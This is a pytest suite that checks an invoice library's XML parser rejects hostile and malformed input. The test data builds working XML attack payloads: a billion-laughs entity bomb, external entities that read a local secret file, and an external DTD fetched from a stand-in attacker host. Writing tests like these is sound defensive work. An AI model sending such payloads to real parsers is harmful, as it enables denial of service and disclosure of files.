"""Hostile or broken XML is refused with a clean InvoiceParseError, never expanded, fetched or echoed."""

from __future__ import annotations

import io
import time

import pytest

from ledger.invoices import InvoiceParseError, parse_ubl, parse_ubl_stream
from ledger.xmlsafe import XmlInputError, parse_untrusted, read_limited

from .helpers import fixture

INVOICE = fixture("invoice_allowances_multi_vat.xml")
_DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'


def _with_doctype(doctype: bytes, body_entity: bytes = b"") -> bytes:
    """The real invoice fixture with a DOCTYPE inserted and an entity used inside its ID."""
    body = INVOICE.split(b"?>", 1)[1]
    if body_entity:
        body = body.replace(b"<cbc:ID>AL-2026-03</cbc:ID>", b"<cbc:ID>" + body_entity + b"</cbc:ID>", 1)
    return _DECL + doctype + body


def _refused(data: bytes, code: str, max_bytes: int | None = None) -> InvoiceParseError:
    with pytest.raises(InvoiceParseError) as caught:
        parse_ubl(data) if max_bytes is None else parse_ubl(data, max_bytes=max_bytes)
    assert caught.value.code == code, caught.value
    assert caught.value.message
    return caught.value


def test_billion_laughs_is_refused_without_expansion():
    levels = [b'<!ENTITY lol0 "lol">'] + [
        b'<!ENTITY lol%d "%s">' % (n, b"".join(b"&lol%d;" % (n - 1) for _ in range(10))) for n in range(1, 10)
    ]
    data = _with_doctype(b"<!DOCTYPE Invoice [" + b"".join(levels) + b"]>\n", b"&lol9;")
    started = time.monotonic()
    error = _refused(data, "invalid_xml")
    assert time.monotonic() - started < 2  # 10^9 expansions would take far longer (and gigabytes)
    # libxml2 may stop it at the declarations (amplification limit) before our DOCTYPE rule does.
    assert "DOCTYPE" in error.message or "entity" in error.message


def test_external_entity_file_read_is_refused_and_never_leaks(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    data = _with_doctype(b'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "' + secret.as_uri().encode() + b'">]>\n', b"&xxe;")
    error = _refused(data, "invalid_xml")
    assert "TOP-SECRET" not in error.message and "TOP-SECRET" not in repr(error)


def test_parameter_entity_and_external_dtd_are_refused(tmp_path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leak "TOP-SECRET">')
    parameter = b'<!DOCTYPE Invoice [<!ENTITY % ext SYSTEM "' + dtd.as_uri().encode() + b'"> %ext;]>\n'
    _refused(_with_doctype(parameter, b"&leak;"), "invalid_xml")
    external = b'<!DOCTYPE Invoice SYSTEM "http://attacker.invalid/evil.dtd">\n'
    _refused(_with_doctype(external), "invalid_xml")


def test_a_plain_doctype_is_refused_too():
    error = _refused(_with_doctype(b"<!DOCTYPE Invoice>\n"), "invalid_xml")
    assert "DOCTYPE" in error.message


def test_fifty_megabytes_are_refused_before_parsing():
    huge = INVOICE.replace(b"</Invoice>", b"<!--" + b"x" * (50 * 1024 * 1024) + b"--></Invoice>")
    started = time.monotonic()
    error = _refused(huge, "payload_too_large")
    assert time.monotonic() - started < 0.5
    assert "10485760" in error.message


def test_stream_reading_stops_one_byte_past_the_limit():
    stream = io.BytesIO(b"<" * (50 * 1024 * 1024))
    with pytest.raises(InvoiceParseError) as caught:
        parse_ubl_stream(stream, max_bytes=1024)
    assert caught.value.code == "payload_too_large"
    assert stream.tell() == 1025
    assert parse_ubl_stream(io.BytesIO(INVOICE)).number == "AL-2026-03"


def test_limit_is_the_callers():
    _refused(INVOICE, "payload_too_large", max_bytes=len(INVOICE) - 1)
    assert parse_ubl(INVOICE, max_bytes=len(INVOICE)).number == "AL-2026-03"


@pytest.mark.parametrize(
    "data",
    [
        INVOICE[: len(INVOICE) // 2],  # truncated upload
        INVOICE.replace(b"</cbc:IssueDate>", b"</cbc:IssueDat>", 1),  # mismatched tag
        INVOICE.replace(b"AL-2026-03</cbc:ID>", b"AL &amp 2026</cbc:ID>", 1),  # bad entity syntax
        INVOICE.replace(b"AL-2026-03</cbc:ID>", b"&undefined;</cbc:ID>", 1),  # undeclared entity
        b"",
        b"   \n",
        b"not xml at all",
        b"\xff\xfe\x00garbage",
        b'{"number": "AL-2026-03"}',
    ],
    ids=["truncated", "mismatched-tag", "bad-entity", "undeclared-entity", "empty", "blank", "text", "binary", "json"],
)
def test_malformed_xml_is_invalid_xml(data):
    _refused(data, "invalid_xml")


@pytest.mark.parametrize(
    "data",
    [
        b"<Invoice><ID>1</ID></Invoice>",  # right name, no namespace
        b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-3"/>',
        b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>',
    ],
    ids=["no-namespace", "ubl-order", "wrong-version", "cii"],
)
def test_wrong_root_element_is_not_an_invoice(data):
    error = _refused(data, "not_an_invoice")
    assert "root element" in error.message


def test_wrong_root_is_refused_at_its_start_tag():
    # The rest of the document is never parsed: a long tail that breaks later does not change the answer.
    data = b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2">' + b"<x/>" * 100_000 + b"<<"
    _refused(data, "not_an_invoice")


def test_xmlsafe_is_usable_for_other_formats():
    root = parse_untrusted(b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.02'/>")
    assert root.tag.endswith("}Document")
    with pytest.raises(XmlInputError) as caught:
        read_limited(io.BytesIO(b"x" * 11), max_bytes=10)
    assert caught.value.code == "payload_too_large"
    with pytest.raises(TypeError):
        parse_untrusted("<a/>")  # type: ignore[arg-type]
